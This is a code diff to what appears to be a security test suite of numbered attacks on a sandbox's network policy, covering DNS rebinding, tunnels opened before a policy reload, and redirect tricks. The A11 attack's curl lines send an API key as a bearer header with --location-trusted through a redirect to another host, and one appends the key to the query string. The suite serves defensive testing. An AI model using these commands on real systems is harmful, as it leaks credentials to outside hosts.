@@ -155,6 +155,8 @@ async function spelledTargets(place: Place, world: World): Promise<Variant[]> {
 const a9: Attack = {
   id: 'A9',
   title: 'rebinding: an allowed name that answers a private address upstream',
+  // Looks for its refusal in the journal.
+  isApart: true,
   setting: 'the same address, opened by the user with a pin',
   async attempt(place, world) {
     return withLiar(world, async (heard) => {
@@ -251,7 +253,7 @@ const a11: Attack = {
         ? ''
         : [host, other.host].map((name) => `--resolve ${name}:${port}:${address}`).join(' ');
     const to = (index: number) => encodeURIComponent(`${base(other.host)}/open/${mark}-${index}-`);
-    const curl = `curl -ksSL -m 4 --location-trusted ${lead} -H "authorization: Bearer $API_KEY"`;
+    const curl = `curl -ksSL -m 15 --location-trusted ${lead} -H "authorization: Bearer $API_KEY"`;
     const lines = {
       '--location-trusted': `${curl} '${base(host)}/redirect?to=${to(0)}'`,
       'key in the query': `${curl} '${base(host)}/redirect?to='"$(printf %s '${to(1)}' | sed "s/$/?k=$API_KEY/")"`,
@@ -273,13 +275,12 @@ const a11: Attack = {
   },
 };
 
-export async function keyOf(place: Place, name = 'API_KEY'): Promise<string> {
-  return (await place.sh(`printf %s "$${name}"`)).stdout;
-}
+export const keyOf = (place: Place, name = 'API_KEY'): Promise<string> => place.variable(name);
 
 const a12: Attack = {
   id: 'A12',
   title: 'a tunnel opened before a reload that denies it; an invalid policy',
+  isApart: true,
   setting: 'the same tunnel before the reload',
   async attempt(_place, world) {
     return withLiar(world, async () => {
@@ -372,4 +373,4 @@ async function appears(file: string): Promise<boolean> {
   return false;
 }
 
-export const nameAttacks: readonly Attack[] = [a7, a8, a9, a10, a11, a12];
+export const nameAttacks: readonly Attack[] = [a7, a8, a10, a11, a9, a12];
